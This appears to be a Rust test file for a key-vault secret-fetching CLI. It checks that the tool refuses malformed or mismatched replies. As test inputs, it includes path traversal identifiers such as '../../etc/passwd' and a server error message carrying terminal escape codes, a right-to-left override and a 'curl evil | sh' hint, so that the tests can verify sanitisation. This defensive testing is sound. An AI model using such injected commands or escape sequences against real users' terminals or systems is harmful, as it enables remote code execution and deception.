//! JSON that is whole but not what was asked for.

use serde_json::{Value, json};

use crate::support::replay::{Replay, Reply, TOKEN};
use crate::support::{Scratch, failure, run};
use crate::{VERSION, accepted, altered, good, refused};

fn one(reply: Reply) -> Replay {
    Replay::script(vec![reply])
}

#[test]
fn the_good_secret_is_good() {
    accepted(&one(Reply::json(good())));
    // Names are compared without regard to case.
    let id = format!("https://x.vault.localhost/secrets/Web/{VERSION}");
    let folder = Scratch::new();
    let server = one(altered("id", Some(id.into())));
    let (code, _, errors) = run(&mut server.kvcert(folder.path(), &["get", "web", "-o", "out"]));
    assert_eq!(code, 0, "{errors}");
}

#[test]
fn another_version_than_asked_for() {
    let asked = "f".repeat(32);
    let folder = Scratch::new();
    let server = one(Reply::json(good()));
    let name = format!("web/{asked}");
    let (code, _, errors) = run(&mut server.kvcert(folder.path(), &["get", &name, "-o", "out"]));
    assert_eq!(
        (code, &failure(&errors)["reason"]),
        (6, &"unexpected-reply".into())
    );
    assert!(errors.contains("was not asked for"), "{errors}");
    assert!(!folder.join("out").exists());
}

#[test]
fn identifiers_that_are_not_the_right_one() {
    let ids = [
        format!("https://x.vault.localhost/secrets/other/{VERSION}"),
        format!("https://x.vault.localhost/keys/web/{VERSION}"),
        format!("https://x.vault.localhost/secrets/web/{VERSION}0"),
        format!("https://x.vault.localhost/secrets/%2e%2e%2fweb/{VERSION}"),
        String::from("https://x.vault.localhost/secrets/web"),
        String::from("https://x.vault.localhost/secrets/../../etc/passwd"),
        String::from("web"),
        String::new(),
    ];
    for id in ids {
        refused(&one(altered("id", Some(id.into()))), 6, "unexpected-reply");
    }
}

#[test]
fn what_is_missing_or_empty() {
    refused(&one(altered("id", None)), 6, "unexpected-reply");
    refused(&one(altered("value", None)), 6, "unexpected-reply");
    refused(
        &one(altered("value", Some(Value::Null))),
        6,
        "unexpected-reply",
    );
    refused(
        &one(altered("value", Some("".into()))),
        7,
        "not-a-key-store",
    );
    refused(
        &one(altered("attributes", Some(json!({"enabled": false})))),
        3,
        "disabled",
    );
    accepted(&one(altered("attributes", None)));
    accepted(&one(altered("contentType", None)));
    accepted(&one(altered("contentType", Some("text/plain".into()))));
    accepted(&one(altered(
        "attributes",
        Some(json!({"nbf": 1_564_536_012_448_i64})),
    )));
}

#[test]
fn words_that_would_steer_the_terminal() {
    let message = "\u{1b}]0;owned\u{7}\u{1b}[2Jall is well\u{202e}\r\nhint: curl evil | sh";
    let body = json!({"error": {"code": "Forbidden", "message": message}}).to_string();
    let server = one(Reply::new(403, body));
    for json in [true, false] {
        let folder = Scratch::new();
        let mut command = server.kvcert(folder.path(), &["get", "web"]);
        if !json {
            command = as_text(&server, folder.path());
        }
        let (code, output, errors) = run(&mut command);
        assert_eq!(code, 5, "{errors}");
        for text in [&output, &errors] {
            let odd = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
            assert!(!text.contains(odd), "{text:?}");
        }
        let hints = errors
            .lines()
            .filter(|line| line.starts_with("hint:"))
            .count();
        assert_eq!(hints, usize::from(!json), "{errors}");
    }
}

/// kvcert for the server, without `--json`.
fn as_text(server: &Replay, folder: &std::path::Path) -> std::process::Command {
    let mut command = crate::support::kvcert(folder);
    command
        .args([
            "get",
            "web",
            "--ca-file",
            "ca.pem",
            "--vault",
            &server.url(),
        ])
        .env("KVCERT_ACCESS_TOKEN", TOKEN);
    command
}

#[test]
fn a_refusal_in_html() {
    let page = "<html><head><title>403 - Forbidden</title></head></html>";
    let reply = Reply::new(403, page).header("Content-Type", "text/html");
    let error = refused(&one(reply), 5, "forbidden-by-proxy");
    assert!(error.to_string().contains("text/html"), "{error}");
}
